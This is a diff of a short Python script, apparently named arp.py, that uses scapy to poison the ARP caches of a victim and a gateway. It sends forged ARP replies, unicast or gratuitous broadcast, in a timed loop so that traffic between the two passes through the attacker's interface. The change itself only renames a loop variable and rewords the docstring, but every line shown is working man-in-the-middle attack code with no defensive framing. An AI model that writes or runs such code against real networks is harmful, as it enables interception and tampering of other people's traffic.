@@ -1,4 +1,4 @@
-"""Tells two hosts, by scapy, that the other is here: `arp.py VICTIM GATEWAY INTERVAL SECONDS reply|gratuitous`."""
+"""Announces to two hosts, by scapy, that the other is here: `arp.py VICTIM GATEWAY INTERVAL SECONDS reply|gratuitous`."""
 import sys, time
 from scapy.all import ARP, Ether, conf, get_if_hwaddr, getmacbyip, sendp
 
@@ -8,9 +8,9 @@ own = get_if_hwaddr("eth0")
 macs = {address: getmacbyip(address) for address in (victim, gateway)}
 until = time.time() + seconds
 while time.time() < until:
-    for told, lie in ((victim, gateway), (gateway, victim)):
+    for target, lie in ((victim, gateway), (gateway, victim)):
         if how == "gratuitous":
             sendp(Ether(src=own, dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, hwsrc=own, psrc=lie, hwdst="ff:ff:ff:ff:ff:ff", pdst=lie), iface="eth0")
         else:
-            sendp(Ether(src=own, dst=macs[told]) / ARP(op=2, hwsrc=own, psrc=lie, hwdst=macs[told], pdst=told), iface="eth0")
+            sendp(Ether(src=own, dst=macs[target]) / ARP(op=2, hwsrc=own, psrc=lie, hwdst=macs[target], pdst=target), iface="eth0")
     time.sleep(interval)
